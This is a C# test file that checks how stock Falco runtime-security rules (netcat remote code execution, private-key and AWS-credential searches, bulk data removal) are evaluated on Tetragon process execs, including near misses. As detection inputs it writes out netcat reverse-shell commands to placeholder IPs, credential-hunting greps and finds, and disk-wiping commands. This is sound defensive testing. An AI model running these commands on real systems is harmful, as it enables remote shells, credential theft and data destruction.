using static ZtStream.Verifier.Tests.Rules.Falco.FalcoSyscallTestData;

namespace ZtStream.Verifier.Tests.Rules.Falco;

/// <summary>
/// falcosecurity/rules' <c>falco_rules.yaml</c>, as shipped, on Tetragon's process execs: which of its rules ZtStream
/// evaluates and why the others are refused; the stock exec rules fire through Ingest's Tetragon mapper on the
/// execs they describe and stay quiet on their near misses.
/// </summary>
public sealed class FalcoSyscallRuleTests
{
    private static readonly Lazy<RuleLoadResult> Stock = new(() => FalcoTestData.Load(StockFile()));

    private static Rule StockRule(string name) => Assert.Single(Stock.Value.Rules, r => r.Id == name);

    private static bool Fires(string rule, string line) => StockRule(rule).Condition.Matches(Event(line));

    [Fact]
    public void StockFile_LoadsTheExecRules_AndRefusesEachOtherWithItsReason()
    {
        var result = Stock.Value;

        Assert.Equal(
            [
                "Directory traversal monitored file read", "Read sensitive file untrusted", "System user interactive", "Netcat Remote Code Execution in Container",
                "Search Private Keys or Passwords", "Clear Log Activities", "Remove Bulk Data from Disk",
                "Create Symlink Over Sensitive Files", "Create Hardlink Over Sensitive Files",
                "Packet socket created in container", "Linux Kernel Module Injection Detected", "Detect release_agent File Container Escapes", "PTRACE attached to process",
                "PTRACE anti-debug attempt", "Find AWS Credentials",
            ],
            result.Rules.Select(r => r.Id));

        // A sensitive file's read and a release_agent write are policy calls' (FalcoSyscallCallRuleTests), and so are the
        // links made over sensitive files (FalcoPathCallRuleTests) and the socket, module and ptrace rules
        // (FalcoProcessCallRuleTests), a log cleared and a directory traversal the opens' (FalcoOpenCallRuleTests); every other
        // loaded rule reads execs alone.
        string[] calls =
        [
            "Read sensitive file untrusted", "Create Symlink Over Sensitive Files", "Create Hardlink Over Sensitive Files", "Packet socket created in container",
            "Linux Kernel Module Injection Detected", "Detect release_agent File Container Escapes", "PTRACE attached to process", "PTRACE anti-debug attempt",
            "Directory traversal monitored file read", "Clear Log Activities",
        ];
        Assert.All(result.Rules, r => Assert.Equal(
            calls.Contains(r.Id) ? [EventKinds.RuntimeProcess, EventKinds.RuntimeAlert] : [EventKinds.RuntimeProcess], r.Kinds));
        Assert.Equal(10, result.Errors.Count);

        // Grouped by reason: rules of a system call no exec nor policy call is, then each field the record cannot give
        // (the file and network rules Tetragon's calls answer: FalcoSyscallCallRuleTests).
        var groups = result.Errors.GroupBy(e => Group(e.Reason)).ToDictionary(g => g.Key, g => g.Count());
        Assert.Equal(new Dictionary<string, int>
        {
            ["another system call"] = 1,
            ["proc.exe"] = 2,
            ["proc.duration"] = 1,
            ["proc.pexe"] = 1,
            ["proc.tty"] = 1,
            ["fd.sip.name"] = 1,
            ["container.privileged"] = 1,
            ["proc.is_exe_upper_layer"] = 1,
            ["proc.is_exe_from_memfd"] = 1,
        }, groups);

        Assert.Contains(result.Errors, e => e.RuleId == "Redirect STDOUT/STDIN to Network Connection in Container" && e.Reason.EndsWith("it requires evt.type in (dup, dup2, dup3)", StringComparison.Ordinal));
        Assert.Contains(result.Errors, e => e.RuleId == "Terminal shell in container" && e.Reason.Contains("reads proc.tty, which a process exec does not carry", StringComparison.Ordinal));
        Assert.Contains(result.Errors, e => e.RuleId == "Run shell untrusted" && e.Reason.Contains("in macro 'parent_java_running_zookeeper'", StringComparison.Ordinal));

        static string Group(string reason)
        {
            if (reason.Contains("is never true on a system call", StringComparison.Ordinal))
            {
                return "another system call";
            }

            var at = reason.IndexOf("reads ", StringComparison.Ordinal) + "reads ".Length;
            return reason[at..reason.IndexOf(',', at)];
        }
    }

    public static TheoryData<string, string> NetcatExecs => new()
    {
        { "nc -e in a pod", Exec("/usr/bin/nc", "-e /bin/sh 203.0.113.5 4444", Pod()) },
        { "ncat --lua-exec in a container without a pod, no parent", Exec("/usr/bin/ncat", "--lua-exec shell.lua 203.0.113.5 4444", parent: null, user: null, extra: ",\"docker\":\"4f1c9a2b7e3d5c6\"") },
        { "nc -c by another user in another namespace", Exec("/bin/nc", "-c bash 198.51.100.7 9001", Pod(ns: "shop", name: "web-1", image: "nginx:1.25"), uid: 101, user: "nginx") },
    };

    [Theory]
    [MemberData(nameof(NetcatExecs))]
    public void Netcat_ExecRunningAShellInAContainer_Fires(string because, string line) =>
        Assert.True(Fires("Netcat Remote Code Execution in Container", line), because);

    [Theory]
    [InlineData("the same nc -e on the host")]
    [InlineData("a listener in a pod")]
    [InlineData("nc without arguments in a pod")]
    public void Netcat_NearMiss_DoesNotFire(string because)
    {
        var line = because switch
        {
            "the same nc -e on the host" => Exec("/usr/bin/nc", "-e /bin/sh 203.0.113.5 4444"),
            "a listener in a pod" => Exec("/usr/bin/nc", "-lvp 4444", Pod()),
            _ => Exec("/usr/bin/nc", pod: Pod()),
        };

        Assert.False(Fires("Netcat Remote Code Execution in Container", line), because);
    }

    [Fact]
    public void Netcat_Output_IsFalcosWithTheExecsValues_AndNAForWhatAnExecDoesNotCarry()
    {
        var rule = (FalcoRuleMatcher)StockRule("Netcat Remote Code Execution in Container").Condition;

        Assert.Equal(
            "Netcat runs inside container that allows remote code execution (evt_type=execve user=root user_uid=0 user_loginuid=-1 process=nc proc_exepath=/usr/bin/nc parent=bash command=nc -e /bin/sh 203.0.113.5 4444 terminal=<NA> exe_flags=<NA> checkout (id=4f1c9a2b7e3d))",
            rule.RenderOutput(Event(Exec("/usr/bin/nc", "-e /bin/sh 203.0.113.5 4444", Pod()))));
    }

    [Theory]
    [InlineData("grep for a private key, any case, on the host", "/usr/bin/grep", "-ril begin rsa private key /home", true)]
    [InlineData("find for an ed25519 key in a pod", "/usr/bin/find", "/ -name id_ed25519", true)]
    [InlineData("grep for passwords (grep_more is off as shipped)", "/bin/grep", "-r password /etc", false)]
    [InlineData("find for authorized keys", "/usr/bin/find", "/ -name authorized_keys", false)]
    [InlineData("find without arguments", "/usr/bin/find", null, false)]
    public void SearchPrivateKeys_OnExecs(string because, string binary, string? arguments, bool fires) =>
        Assert.True(fires == Fires("Search Private Keys or Passwords", Exec(binary, arguments, binary.EndsWith("find", StringComparison.Ordinal) ? Pod() : "", uid: 1000, user: "alice")), because);

    [Theory]
    [InlineData("egrep for a secret key in a pod", "/bin/egrep", "-r aws_secret_access_key /root", true)]
    [InlineData("find for the credentials file", "/usr/bin/find", "/ -path */.aws/credentials", true)]
    [InlineData("find that does not end at the file", "/usr/bin/find", "/ -path */.aws/credentials -print", false)]
    [InlineData("grep for an access key id prefix", "/usr/bin/grep", "-r AKIA /root", false)]
    public void FindAwsCredentials_OnExecs(string because, string binary, string arguments, bool fires) =>
        Assert.True(fires == Fires("Find AWS Credentials", Exec(binary, arguments, binary.Contains("grep", StringComparison.Ordinal) ? Pod() : "", parent: null)), because);

    [Theory]
    [InlineData("shred by postgres without a parent", "/usr/bin/shred", "-uz /var/lib/postgresql/data/base.tar", true)]
    [InlineData("mke2fs on the host", "/sbin/mke2fs", "/dev/sdb1", true)]
    [InlineData("mkfs.ext4, a name the list does not have", "/sbin/mkfs.ext4", "/dev/sdb1", false)]
    [InlineData("rm -rf", "/bin/rm", "-rf /data", false)]
    public void RemoveBulkData_OnExecs(string because, string binary, string arguments, bool fires) =>
        Assert.True(fires == Fires("Remove Bulk Data from Disk", Exec(binary, arguments, parent: null, uid: 999, user: "postgres")), because);

    [Fact]
    public void StockRules_ReadOnlyExecs_NotAPolicysEventNorAnAuditEvent()
    {
        var rule = StockRule("Netcat Remote Code Execution in Container");
        var exec = Exec("/usr/bin/nc", "-e /bin/sh 203.0.113.5 4444", Pod());
        var kprobe = exec.Replace("\"process_exec\":{", "\"process_kprobe\":{\"function_name\":\"tcp_connect\",\"policy_name\":\"connect\",", StringComparison.Ordinal);

        Assert.True(rule.Condition.Matches(Event(exec)));
        Assert.Equal(EventKinds.RuntimeAlert, Event(kprobe).Event.Kind);
        Assert.False(rule.Condition.Matches(Event(kprobe)));
        Assert.False(rule.Condition.Matches(FalcoTestData.Event("""{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"a1","stage":"ResponseComplete","verb":"create","user":{"username":"alice"},"stageTimestamp":"2026-11-30T09:00:00Z"}""")));
    }
}
